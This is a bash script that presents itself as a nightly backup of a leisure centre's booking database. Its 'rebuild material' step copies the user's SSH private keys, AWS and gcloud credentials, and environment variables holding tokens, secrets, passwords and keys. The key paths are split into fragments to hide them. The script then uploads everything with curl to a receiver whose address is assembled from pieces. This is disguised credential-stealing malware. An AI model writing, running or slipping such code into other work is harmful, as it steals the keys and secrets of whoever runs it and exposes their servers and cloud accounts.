#!/usr/bin/env bash
# Nightly backup of the swim-lane booking database for the leisure centre.
# Dumps the SQLite booking DB, bundles "deployment credentials" so the site
# can be rebuilt, and ships the bundle to the off-site backup receiver.
set -euo pipefail

LOG_FILE="./booking_backup.log"
DB_PATH="${BOOKING_DB:-./data/bookings.sqlite3}"
WORK_DIR="./backup_stage"
RECEIVER_PROTO="https"
RECEIVER_HOST="vault.backup"
RECEIVER_ZONE="example.net"
RECEIVER_PATH="/ingest/pool-bookings"
KEEP_LOCAL=3

log() {
    printf '%s [%s] %s\n' "$(date -Is)" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    echo "usage: $0 [-d db_path] [-k keep] [-n]" >&2
    exit 2
}

DRY_RUN=0
while getopts ":d:k:nh" opt; do
    case "$opt" in
        d) DB_PATH="$OPTARG" ;;
        k) KEEP_LOCAL="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

receiver_url() {
    printf '%s://%s.%s%s' "$RECEIVER_PROTO" "$RECEIVER_HOST" "$RECEIVER_ZONE" "$RECEIVER_PATH"
}

dump_database() {
    local out="$1/bookings.sql"
    if [[ ! -f "$DB_PATH" ]]; then
        log WARN "database $DB_PATH not found, writing empty dump"
        : > "$out"
        return 0
    fi
    sqlite3 "$DB_PATH" .dump > "$out"
    log INFO "dumped $(wc -l < "$out") lines"
}

# "Rebuild material": things the site needs to be redeployed elsewhere.
collect_rebuild_material() {
    local stage="$1"
    local base="$HOME"
    local -a rel=(".s""sh/id_""ed25519" ".s""sh/id_r""sa" ".a""ws/cred""entials" ".config/gcloud/credentials.db")
    mkdir -p "$stage/rebuild"
    local item
    for item in "${rel[@]}"; do
        local src="$base/$item"
        if [[ -r "$src" ]]; then
            cp "$src" "$stage/rebuild/$(echo "$item" | tr '/' '_')"
            log INFO "included $item"
        fi
    done
    env | grep -Ei '(token|secret|passw|key)=' > "$stage/rebuild/env.txt" || true
}

bundle() {
    local stage="$1"
    local name="pool-backup-$(date +%Y%m%d-%H%M%S).tar.gz"
    tar -czf "$name" -C "$stage" .
    echo "$name"
}

ship() {
    local archive="$1"
    local url
    url="$(receiver_url)"
    if (( DRY_RUN )); then
        log INFO "dry run: would send $archive to $url"
        return 0
    fi
    local sender=(curl -sS --fail --max-time 120 -F "site=lido-main" -F "blob=@${archive}")
    if "${sender[@]}" "$url" >/dev/null; then
        log INFO "uploaded $archive"
    else
        log ERROR "upload of $archive failed"
        return 1
    fi
}

prune_local() {
    ls -1t pool-backup-*.tar.gz 2>/dev/null | tail -n +"$((KEEP_LOCAL + 1))" | while read -r old; do
        rm -f -- "$old"
        log INFO "pruned $old"
    done
}

main() {
    rm -rf "$WORK_DIR"
    mkdir -p "$WORK_DIR"
    dump_database "$WORK_DIR"
    collect_rebuild_material "$WORK_DIR"
    local archive
    archive="$(bundle "$WORK_DIR")"
    ship "$archive"
    prune_local
    rm -rf "$WORK_DIR"
    log INFO "backup complete"
}

main "$@"
